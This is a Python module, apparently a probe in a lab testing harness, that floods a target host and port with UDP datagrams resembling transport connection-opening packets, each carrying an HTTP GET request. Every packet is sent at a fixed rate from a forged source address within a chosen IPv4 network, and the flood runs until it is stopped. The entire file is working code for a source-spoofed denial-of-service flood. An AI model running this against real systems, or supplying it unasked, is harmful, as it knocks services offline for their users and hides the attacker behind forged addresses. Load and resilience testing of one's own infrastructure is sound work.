"""Sends OPENs of the transport from forged addresses of a network at a fixed rate until SIGTERM.

    lab.sh probe open-flood ADDRESS PORT PER_SECOND NETWORK PATH COUNT

NETWORK is the first three numbers of an IPv4 network. Each OPEN requests PATH, in which %d is replaced by
a number below COUNT, one after the other. Prints "sent N" at the end.
"""

import socket
import struct

from lab import UsageError
from lab.probes import flood
from lab.probes.syn_flood import checksum

OPEN_BYTES = 1232


def open_datagram(echo: int, path: str) -> bytes:
    """An OPEN without a token that begins a stream."""
    request = f"GET {path} HTTP/1.1\r\nHost: h\r\n\r\n".encode()
    head = struct.pack("!BBQHBB", 0x10, 1, echo, 1472, 1, 0)
    datagram = head + bytes(6) + struct.pack("!BH", 1, len(request)) + request
    return datagram.ljust(OPEN_BYTES, b"\0")


def packet(source: bytes, target: bytes, from_port: int, port: int, payload: bytes) -> bytes:
    """A packet; the kernel fills in length and checksum of the IP header."""
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 0, 0, 0, 64, socket.IPPROTO_UDP, 0, source, target)
    ports, length = struct.pack("!HH", from_port, port), struct.pack("!H", 8 + len(payload))
    pseudo = source + target + struct.pack("!H", socket.IPPROTO_UDP) + length
    total = checksum(pseudo + ports + length + b"\0\0" + payload)
    return ip + ports + length + struct.pack("!H", total or 0xFFFF) + payload


def main(words: list[str]) -> None:
    match words:
        case [address, port, rate, network, path, count]:
            target = socket.inet_aton(address)

            def forged(number: int) -> bytes:
                source = socket.inet_aton(f"{network}.{2 + number % 98}")
                payload = open_datagram(number, path.replace("%d", str(number % int(count))))
                return packet(source, target, 1024 + number % 60000, int(port), payload)

            flood(address, int(rate), forged)
        case _:
            raise UsageError
